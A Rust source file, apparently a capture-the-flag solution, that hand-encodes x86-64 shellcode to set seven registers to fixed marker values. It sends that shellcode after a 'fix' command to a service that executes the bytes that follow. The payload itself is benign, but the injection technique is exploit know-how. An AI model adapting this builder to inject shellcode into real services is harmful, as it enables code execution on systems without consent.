// The service reads a "fix" command, then jumps into whatever bytes follow.
// The stub has to leave seven registers holding fixed values when it returns.

const COMMAND: &[u8] = b"fix\n";

// REX.W + REX.B, mov r/m64 imm32 (sign extended), movabs r64 imm64, ret
const REX_WB: u8 = 0x49;
const MOV_RM_IMM32: u8 = 0xc7;
const MOVABS_BASE: u8 = 0xb8;
const MODRM_REG_DIRECT: u8 = 0xc0;
const RET: u8 = 0xc3;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Reg {
    R8,
    R9,
    R10,
    R12,
    R13,
    R14,
    R15,
}

impl Reg {
    // low three bits of the register number, the high bit goes in REX.B
    fn low_bits(self) -> u8 {
        match self {
            Reg::R8 => 0,
            Reg::R9 => 1,
            Reg::R10 => 2,
            Reg::R12 => 4,
            Reg::R13 => 5,
            Reg::R14 => 6,
            Reg::R15 => 7,
        }
    }
}

const REGISTERS: [(Reg, u64); 7] = [
    (Reg::R8, 0x1337_c0de),
    (Reg::R9, 0xdead_beef),
    (Reg::R10, 0xdead_1337),
    (Reg::R12, 0x1337_cafe),
    (Reg::R13, 0xbeef_c0de),
    (Reg::R14, 0x1337_1337),
    (Reg::R15, 0x1337_dead),
];

/// Encodes `mov reg, imm` the way gas picks it: the short sign-extended
/// form when the value survives it, movabs otherwise.
#[allow(clippy::cast_possible_wrap)]
pub fn encode_mov(reg: Reg, imm: u64) -> Vec<u8> {
    match i32::try_from(imm as i64) {
        Ok(imm32) => {
            let mut insn = vec![REX_WB, MOV_RM_IMM32, MODRM_REG_DIRECT | reg.low_bits()];
            insn.extend_from_slice(&imm32.to_le_bytes());
            insn
        }
        Err(_) => {
            let mut insn = vec![REX_WB, MOVABS_BASE + reg.low_bits()];
            insn.extend_from_slice(&imm.to_le_bytes());
            insn
        }
    }
}

pub fn build_shellcode(registers: &[(Reg, u64)]) -> Vec<u8> {
    let mut shellcode: Vec<u8> = registers
        .iter()
        .flat_map(|&(reg, imm)| encode_mov(reg, imm))
        .collect();
    shellcode.push(RET);
    shellcode
}

pub fn build_payload() -> Vec<u8> {
    let mut payload = COMMAND.to_vec();
    payload.append(&mut build_shellcode(&REGISTERS));
    payload
}

pub fn print_payload() {
    let payload = build_payload();
    println!(
        "Payload ({} bytes, send after connecting): {}",
        payload.len(),
        hex::encode(&payload)
    );
}
